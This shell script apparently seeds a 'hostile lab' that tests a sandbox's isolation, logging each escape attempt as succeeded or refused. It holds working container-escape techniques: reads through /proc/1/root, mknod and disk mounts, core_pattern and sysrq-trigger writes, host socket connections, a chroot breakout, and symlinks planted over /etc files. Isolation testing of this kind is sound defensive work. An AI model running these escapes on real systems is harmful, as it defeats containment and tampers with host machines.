#!/bin/sh
# The bake script of a hostile lab. Each line of its output is an attempt with its result. The test replaces CANARY,
# FOLDER, PORT, SOCKET and PROCESS.
set -u

say() { echo "attempt: $*"; }
try() {
    what=$1
    shift
    if "$@" >/dev/null 2>&1; then say "$what: SUCCEEDED"; else say "$what: refused"; fi
}

try "read a file of the machine" cat CANARY
try "read it through process 1" cat /proc/1/root/CANARY
try "read it through the parent" cat /proc/1/cwd/CANARY
mkdir -p FOLDER && echo planted > FOLDER/planted
try "see a process of the machine" grep -q PROCESS /proc/*/cmdline
try "signal it" kill -0 PROCESS
try "make a device" mknod /root/disk b 254 0
try "mount a disk" mount -t ext4 /dev/vda /mnt
try "change a setting of the kernel" sh -c 'cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern'
try "ask the kernel for help" sh -c 'echo h > /proc/sysrq-trigger'
try "write to the disk of the machine" sh -c 'echo > /proc/1/root/usr/halab-planted'
try "connect to the machine" perl -e '
    use IO::Socket::INET;
    exit !IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => PORT, Timeout => 2)'
try "connect to a nameless socket" perl -e '
    use Socket;
    socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die;
    exit !connect($s, pack("S a*", AF_UNIX, "\0SOCKET"))'
try "leave the root" perl -e '
    use strict;
    mkdir "/x"; chroot "/x" or die;
    chdir ".." for 1 .. 100;
    chroot "." or die;
    mkdir "/tmp";
    if (open my $f, ">", "FOLDER/escaped") { print $f "planted" }
    opendir(my $d, "/") or die;
    print STDERR "outside: ", join(" ", sort grep { !/^\./ } readdir $d), "\n";
    exit !(-e "CANARY" or -e "/home" or -e "/root")'

# Links where the image is furnished: files would be written through them.
ln -sf FOLDER/through-link /etc/fstab
ln -sf FOLDER/through-link /etc/hostname
rm -rf /etc/sysctl.d && ln -s FOLDER /etc/sysctl.d
say done
